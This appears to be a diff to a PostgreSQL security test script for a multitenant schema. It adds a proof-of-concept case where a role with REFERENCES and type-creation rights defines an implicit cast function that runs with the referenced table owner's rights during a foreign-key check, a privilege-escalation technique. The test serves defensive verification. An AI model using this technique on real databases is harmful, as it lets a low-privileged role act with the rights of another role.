@@ -161,6 +161,15 @@ SELECT id AS porter FROM multitenant."Roles" WHERE name = 'porter' \gset
 SET ROLE attack_back_end;
 SELECT multitenant.delete_role(:'porter');
 RESET ROLE;
+-- and the server checks a foreign key with the rights of the owner of the table that it refers to,
+-- an implicit cast to its column with it: whoever has REFERENCES and may make types has these rights
+SET ROLE attack_developer;
+CREATE TYPE attack.disguise AS ENUM ('acme');
+CREATE FUNCTION attack.undisguise(attack.disguise) RETURNS uuid LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'cast as the owner of the table: %', current_user = (SELECT tableowner FROM pg_tables WHERE schemaname = 'multitenant' AND tablename = 'Tenants'); RETURN '00000000-0000-0000-0000-0000000000aa'; END $$;
+CREATE CAST (attack.disguise AS uuid) WITH FUNCTION attack.undisguise(attack.disguise) AS IMPLICIT;
+CREATE TABLE attack.disguised (tenant attack.disguise REFERENCES multitenant."Tenants" (id));
+INSERT INTO attack.disguised VALUES ('acme');
+RESET ROLE;
 SELECT rolsuper FROM pg_roles WHERE rolname = 'attack_developer';
 SELECT roles FROM multitenant."TenantUsers" WHERE "userId" = :'eve';
 
